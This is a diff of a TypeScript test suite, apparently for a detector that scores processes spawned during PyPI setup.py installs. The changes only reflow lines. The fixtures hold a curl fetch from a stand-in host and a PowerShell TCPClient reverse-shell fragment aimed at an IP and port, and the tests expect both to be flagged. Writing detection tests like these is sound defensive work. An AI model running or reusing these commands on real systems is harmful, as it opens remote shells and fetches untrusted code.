@@ -10,7 +10,11 @@ function pypiReport(processes: ReturnType<typeof proc>[]) {
   return report;
 }
 const pip = proc(['/home/jordan/projects/app/.venv/bin/pip', 'install', '--no-index', 'demo.tar.gz'], { attribution: null });
-const pipHelpers = [proc(['lsb_release', '-a'], { attribution: null }), proc(['uname', '-rs'], { attribution: null }), proc(['python3', '-c', 'exec(compile(...))'], { attribution: null })];
+const pipHelpers = [
+  proc(['lsb_release', '-a'], { attribution: null }),
+  proc(['uname', '-rs'], { attribution: null }),
+  proc(['python3', '-c', 'exec(compile(...))'], { attribution: null }),
+];
 
 describe('PyPI setup.py behaviour', () => {
   it("keeps pip's own helpers benign", () => {
@@ -18,7 +22,9 @@ describe('PyPI setup.py behaviour', () => {
   });
 
   it('flags a shell started from setup.py (os.system) as suspicious', () => {
-    const v = scoreReport(pypiReport([pip, ...pipHelpers, proc(['sh', '-c', 'curl -s http://x.example/a | tee /tmp/a'], { attribution: null })]));
+    const v = scoreReport(
+      pypiReport([pip, ...pipHelpers, proc(['sh', '-c', 'curl -s http://x.example/a | tee /tmp/a'], { attribution: null })]),
+    );
     expect(v.verdict).toBe('suspicious');
     expect(v.reasons.map((r) => r.rule)).toContain('setup-script-shell');
   });
@@ -30,7 +36,10 @@ describe('PyPI setup.py behaviour', () => {
   });
 
   it('calls a PowerShell TCPClient one-liner a reverse shell (conclusive), even though powershell is missing', () => {
-    const attempt = proc(['sh', '-c', "powershell -NoP -Command \"$client = New-Object System.Net.Sockets.TCPClient('47.96.145.144',4502)\""], { attribution: null });
+    const attempt = proc(
+      ['sh', '-c', 'powershell -NoP -Command "$client = New-Object System.Net.Sockets.TCPClient(\'47.96.145.144\',4502)"'],
+      { attribution: null },
+    );
     const v = scoreReport(pypiReport([pip, attempt]));
     expect(v).toMatchObject({ verdict: 'malicious', score: 100 });
     expect(v.reasons.map((r) => r.rule)).toEqual(expect.arrayContaining(['reverse-shell.command', 'windows-payload-attempt']));
